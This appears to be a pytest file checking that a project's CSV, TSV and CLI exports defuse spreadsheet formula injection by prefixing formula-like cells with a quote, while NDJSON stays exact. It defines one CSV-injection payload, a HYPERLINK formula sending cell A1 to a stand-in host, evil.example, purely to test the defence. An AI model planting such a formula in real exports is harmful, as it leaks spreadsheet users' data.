"""Spreadsheet-safe exports (OWASP's CSV injection rule): in CSV and TSV, text cells that start like a
formula get a leading quote by default, in the API and the CLI; an option writes them exactly; NDJSON is
always exact. Numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from dyad.cli import main
from dyad.export import cell, spreadsheet_text
from dyad.store.database import connect, transaction
from dyad.web.app import create_app
from web_store import build_store

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = build_store(tmp_path_factory.mktemp("formula") / "store.db")
    conn = connect(path)
    try:
        with transaction(conn):  # every article's title is now a formula
            conn.execute("UPDATE articles SET title = ?", (FORMULA,))
    finally:
        conn.close()
    return path


def test_the_owasp_rule() -> None:
    for text in ("=1+2", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"):
        assert spreadsheet_text(text) == "'" + text
    for text in ("plain", "", "a=b", "'quoted", "1+1"):
        assert spreadsheet_text(text) == text
    assert cell(-2.5) == "-2.5" and cell(-3) == "-3"  # numbers are not text
    assert cell("-2.5") == "'-2.5" and cell("-2.5", safe=False) == "-2.5"


def _titles(text: str, delimiter: str = ",", column: str = "title") -> set[str]:
    return {row[column] for row in csv.DictReader(io.StringIO(text), delimiter=delimiter)}


@pytest.mark.parametrize("path", ["/api/articles", "/api/events", "/api/export/events"])
def test_api_csv_is_safe_by_default(store: Path, path: str) -> None:
    client = TestClient(create_app(store))
    safe = client.get(path, params={"format": "csv"})
    raw = client.get(path, params={"format": "csv", "spreadsheet_safe": "false"})
    assert safe.status_code == raw.status_code == 200
    assert _titles(safe.text) == {"'" + FORMULA} and _titles(raw.text) == {FORMULA}
    lines = client.get(path, params={"format": "ndjson"}).text.splitlines()
    assert {json.loads(line)["title"] for line in lines} == {FORMULA}  # NDJSON stays exact


def test_api_gdelt_tsv_is_safe(store: Path) -> None:
    client = TestClient(create_app(store))
    tsv = client.get("/api/export/events", params={"format": "gdelt"}).text
    assert FORMULA not in {c for line in tsv.splitlines() for c in line.split("\t")}
    assert json.loads(client.get("/api/export/events", params={"format": "gdelt"}).headers["x-dyad-query"])[
        "spreadsheet_safe"
    ]


def test_cli_exports_are_safe_by_default(store: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    out = tmp_path / "events.csv"
    result = runner.invoke(main, ["export", "events", "--db", str(store), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert _titles(out.read_text(encoding="utf-8")) == {"'" + FORMULA}
    assert json.loads((tmp_path / "events.csv.meta.json").read_text())["spreadsheet_safe"] is True
    raw = runner.invoke(main, ["export", "events", "--db", str(store), "--no-spreadsheet-safe"])
    assert _titles(raw.output) == {FORMULA}
    listed = runner.invoke(main, ["articles", "--db", str(store), "--format", "csv", "--limit", "0"])
    assert _titles(listed.stdout) == {"'" + FORMULA}
    exact = runner.invoke(main, ["export", "events", "--db", str(store), "--format", "ndjson"])
    assert {json.loads(line)["title"] for line in exact.output.splitlines()} == {FORMULA}
